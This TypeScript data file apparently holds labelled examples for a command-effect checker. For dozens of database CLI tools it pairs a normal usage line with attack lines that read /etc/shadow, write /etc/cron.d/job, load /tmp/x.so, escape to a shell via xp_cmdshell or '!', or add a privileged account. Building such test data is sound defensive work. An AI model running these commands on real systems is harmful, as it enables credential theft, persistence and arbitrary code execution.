import type { ExampleTable } from './example.ts'

export const sqlDatabases2: ExampleTable = {
  'litestream replicate': {
    use: 'litestream replicate app.db s3://backup/app → read app.db; send s3://backup/app',
    attack: [
      'litestream replicate /etc/shadow s3://backup/app → read /etc/shadow; send s3://backup/app',
      "litestream replicate -exec 'cat /etc/shadow' app.db s3://backup/app → read /etc/shadow; read app.db; send s3://backup/app",
    ],
  },
  'litestream restore': {
    use: 'litestream restore -o app.db s3://backup/app → write app.db',
    attack: 'litestream restore -o /etc/cron.d/job s3://backup/app → write /etc/cron.d/job',
  },
  rqlite: {
    use: 'rqlite -H db -p 4001 → nothing',
  },
  sqldiff: {
    use: 'sqldiff old.db new.db → nothing',
    attack: 'sqldiff -L /tmp/x.so old.db new.db → load /tmp/x.so',
  },
  'sqlite-utils': {
    use: "sqlite-utils --load-extension=/usr/lib/mod_spatialite.so app.db 'select 1' → load /usr/lib/mod_spatialite.so",
    attack: "sqlite-utils --load-extension=/tmp/x.so app.db 'select 1' → load /tmp/x.so",
  },
  'sqlite-utils convert': {
    use: "sqlite-utils convert app.db orders name 'value.upper()' → nothing",
    attack:
      'sqlite-utils convert app.db orders name \'open("/etc/shadow").read()\' → read /etc/shadow',
  },
  'sqlite-utils insert': {
    use: 'sqlite-utils insert app.db orders orders.csv --csv → read orders.csv; write app.db',
    attack: 'sqlite-utils insert app.db lines /etc/shadow --lines → read /etc/shadow; write app.db',
  },
  'sqlite-utils memory': {
    use: "sqlite-utils memory orders.csv 'select count(*) from orders' → nothing",
    attack: [
      "sqlite-utils memory orders.csv 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so",
      "sqlite-utils memory orders.csv 'select 1' --functions='open(\"/etc/shadow\").read()' → read /etc/shadow",
    ],
  },
  'sqlite-utils query': {
    use: "sqlite-utils query app.db 'select count(*) from orders' → nothing",
    attack: [
      "sqlite-utils query app.db 'select 1' --functions='open(\"/etc/shadow\").read()' → read /etc/shadow",
      "sqlite-utils query app.db 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so",
    ],
  },
  sqlite3: {
    use: "sqlite3 app.db 'select count(*) from orders' → nothing",
    attack: [
      'sqlite3 app.db "select readfile(\'/etc/shadow\')" → read /etc/shadow',
      'sqlite3 app.db -init /etc/shadow → read /etc/shadow',
    ],
    unclear: [`sqlite3 a.db 'PRAGMA writable_schema=1' → what is lost with it`],
  },
  adrci: {
    use: "adrci exec='show homes' → nothing",
    attack: "adrci exec='host /tmp/x' → run /tmp/x",
    unclear: 'adrci script=purge.adi → what the script says',
  },
  bcp: {
    use: 'bcp shop.dbo.orders in orders.csv -S db -U ann -c → read orders.csv',
    attack: [
      'bcp shop.dbo.orders in /etc/shadow -S 10.0.0.1 -U ann -c → read /etc/shadow',
      'bcp shop.dbo.orders in orders.csv -S db -o /etc/cron.d/job → read orders.csv; write /etc/cron.d/job',
    ],
  },
  beeline: {
    use: "beeline -u jdbc:hive2://db:10000 -e 'select 1' → nothing",
    attack: [
      "beeline -e '!sh cat /etc/shadow' → read /etc/shadow",
      'beeline -f /etc/shadow → read /etc/shadow',
    ],
  },
  bendsql: {
    use: "bendsql -h db -q 'select 1' → nothing",
  },
  bteq: {
    use: 'bteq < report.bteq → nothing',
    attack: "echo '.os /tmp/x' | bteq → run /tmp/x",
  },
  'clickhouse-backup': {
    use: 'clickhouse-backup -c config.yml create nightly → read config.yml',
    attack: 'clickhouse-backup -c /etc/shadow list → read /etc/shadow',
  },
  'clickhouse-benchmark': {
    use: "clickhouse-benchmark -i 100 --query='select 1' → nothing",
    attack: [
      'clickhouse-benchmark --query="select * from file(\'/etc/shadow\')" → read /etc/shadow',
      "clickhouse-benchmark --query='select 1' --json=/etc/cron.d/job → write /etc/cron.d/job",
    ],
  },
  'clickhouse-client': {
    use: "clickhouse-client -h db -q 'select 1' → nothing",
    attack: [
      'clickhouse-client -q "select * from file(\'/etc/shadow\')" → read /etc/shadow',
      'clickhouse-client --queries-file=/etc/shadow → read /etc/shadow',
    ],
  },
  'clickhouse-copier': {
    use: 'clickhouse-copier --config=zookeeper.xml --task-file=task.xml → read zookeeper.xml; read task.xml',
  },
  'clickhouse-local': {
    use: "clickhouse-local --file orders.csv -q 'select count() from table' → read orders.csv",
    attack: [
      'clickhouse-local -q "select * from file(\'/etc/shadow\')" → read /etc/shadow',
      "clickhouse-local --file=/etc/shadow --input-format=LineAsString -q 'select * from table' → read /etc/shadow",
    ],
  },
  'clickhouse-server': {
    use: 'clickhouse-server --config-file=config.xml → read config.xml; listen 9000',
    attack: 'clickhouse-server --pid-file=/etc/cron.d/job → listen 9000; write /etc/cron.d/job',
  },
  db2: {
    use: 'db2 -tvf setup.sql → read setup.sql',
    attack: [
      "db2 '!cat /etc/shadow' → read /etc/shadow",
      "db2 -z /etc/cron.d/job 'select * from jobs' → write /etc/cron.d/job",
    ],
  },
  dbaccess: {
    use: 'dbaccess shop setup.sql → read setup.sql',
    attack: 'dbaccess -e shop /etc/shadow → read /etc/shadow',
  },
  exaplus: {
    use: 'exaplus -c db:8563 -u ann -f setup.sql → read setup.sql',
    attack: 'exaplus -c db:8563 -u ann -f /etc/shadow → read /etc/shadow',
  },
  fisql: {
    use: 'fisql -S db -U ann -i setup.sql → read setup.sql',
    attack: [
      'fisql -S db -U ann -i /etc/shadow → read /etc/shadow',
      'fisql -S db -U ann -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  freebcp: {
    use: 'freebcp shop.dbo.orders in orders.csv -S db -U ann -c → read orders.csv',
    attack: [
      'freebcp shop.dbo.orders in /etc/shadow -S 10.0.0.1 -U ann -c → read /etc/shadow',
      'freebcp shop.dbo.orders in orders.csv -S db -U ann -e /etc/cron.d/job → read orders.csv; write /etc/cron.d/job',
    ],
  },
  gbak: {
    use: 'gbak -b shop.fdb shop.fbk → read shop.fdb; write shop.fbk',
    attack: 'gbak -b shop.fdb /etc/passwd → read shop.fdb; write /etc/passwd',
  },
  gpfdist: {
    use: 'gpfdist -d data -p 8081 → read-tree data; listen 8081',
    attack: [
      'gpfdist -d /root/.ssh -p 8081 → read-tree /root/.ssh; listen 8081',
      'gpfdist -d data -l /etc/cron.d/job → read-tree data; write /etc/cron.d/job',
    ],
  },
  gpload: {
    use: 'gpload -f load.yml -l load.log → read load.yml; write load.log',
    attack: 'gpload -f load.yml -l /etc/cron.d/job → read load.yml; write /etc/cron.d/job',
  },
  gsec: {
    attack: 'gsec -add toor -pw x → privilege toor x',
  },
  hdbsql: {
    use: "hdbsql -n db:30013 -u ann 'select 1 from dummy' → nothing",
    attack: [
      'hdbsql -n db:30013 -u ann -I /etc/shadow → read /etc/shadow',
      "hdbsql -n db:30013 -u ann -o /etc/cron.d/job 'select line from jobs' → write /etc/cron.d/job",
    ],
  },
  hive: {
    use: "hive -e 'select count(*) from orders' → nothing",
    attack: [
      "hive -e '!cat /etc/shadow' → read /etc/shadow",
      'hive -f /etc/shadow → read /etc/shadow',
    ],
  },
  'impala-shell': {
    use: "impala-shell -q 'select count(*) from orders' → nothing",
    attack: [
      "impala-shell -q 'shell cat /etc/shadow' → read /etc/shadow",
      'impala-shell --ldap_password_cmd=/tmp/x → run /tmp/x',
    ],
  },
  isql: {
    use: 'isql -S db -U ann -i setup.sql → read setup.sql',
    attack: [
      'isql -S db -U ann -i /etc/shadow → read /etc/shadow',
      'isql -S db -U ann -o /etc/cron.d/job → write /etc/cron.d/job',
    ],
  },
  'isql-fb': {
    use: 'isql-fb -i setup.sql shop.fdb → read setup.sql',
    attack: [
      "echo 'shell /tmp/x;' | isql-fb shop.fdb → run /tmp/x",
      'isql-fb -i /etc/shadow shop.fdb → read /etc/shadow',
    ],
  },
  'isql-v': {
    use: 'isql-v 1111 dba dba setup.sql → nothing',
  },
  iusql: {
    use: 'iusql shop ann secret → nothing',
    attack: 'echo "exec xp_cmdshell \'/tmp/x\'" | iusql shop sa → run /tmp/x',
  },
  lsnrctl: {
    use: 'lsnrctl status → nothing',
  },
  mclient: {
    use: 'mclient -d shop setup.sql → read setup.sql',
    attack: [
      'mclient -d shop /etc/shadow → read /etc/shadow',
      'mclient -d shop -s "copy into t from \'/etc/shadow\'" → read /etc/shadow',
      "mclient -d shop -s '\\|/tmp/x' → run /tmp/x",
    ],
  },
  'mdb-export': {
    use: 'mdb-export shop.mdb orders → read shop.mdb',
  },
  'mdb-sql': {
    use: 'mdb-sql -i report.sql shop.mdb → read report.sql',
    attack: 'mdb-sql -o /etc/cron.d/job shop.mdb → write /etc/cron.d/job',
  },
  'mdb-tables': {
    use: 'mdb-tables -1 shop.mdb → read shop.mdb',
  },
  'mssql-cli': {
    use: "mssql-cli -S db -U ann -Q 'select 1' → nothing",
    attack: [
      'mssql-cli -Q "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
      'mssql-cli -i /etc/shadow → read /etc/shadow',
    ],
  },
  presto: {
    use: "presto --server db:8080 --execute 'select 1' → nothing",
    attack: 'presto --server db:8080 -f /etc/shadow → read /etc/shadow',
  },
  rman: {
    use: 'rman target=ann@db → nothing',
    attack: "echo 'host /tmp/x' | rman target=ann@db → run /tmp/x",
  },
  snow: {
    use: 'snow sql -f setup.sql → read setup.sql',
    attack: 'snow sql -f /etc/shadow → read /etc/shadow',
  },
  snowsql: {
    use: "snowsql -a acme -u ann -q 'select 1' → nothing",
    attack: 'snowsql -a acme -u ann -f /etc/shadow → read /etc/shadow',
  },
  sql: {
    use: 'sql ann@db/shop → nothing',
    attack: "echo 'host /tmp/x' | sql ann@db/shop → run /tmp/x",
  },
  sqlcl: {
    use: 'sqlcl ann@db/shop → nothing',
    attack: "echo 'host /tmp/x' | sqlcl ann@db/shop → run /tmp/x",
  },
  sqlcmd: {
    use: "sqlcmd -S db -U ann -Q 'select 1' → nothing",
    attack: [
      'sqlcmd -Q "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
      'sqlcmd -i /etc/shadow → read /etc/shadow',
    ],
  },
  sqlline: {
    use: "sqlline -u jdbc:calcite: -e 'select 1' → nothing",
    attack: [
      "sqlline -e '!sh cat /etc/shadow' → read /etc/shadow",
      'sqlline -f /etc/shadow → read /etc/shadow',
    ],
  },
  sqlplus: {
    use: 'sqlplus -s ann@db/shop → nothing',
    attack: "echo '!/tmp/x' | sqlplus ann@db/shop → run /tmp/x",
  },
  sqsh: {
    use: "sqsh -S db -U ann -C 'select 1' → nothing",
    attack: [
      'sqsh -C "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
      'sqsh -i /etc/shadow → read /etc/shadow',
    ],
  },
  tsql: {
    use: 'tsql -S db -U ann → nothing',
    attack: 'echo "exec xp_cmdshell \'/tmp/x\'" | tsql -S db -U sa → run /tmp/x',
  },
}
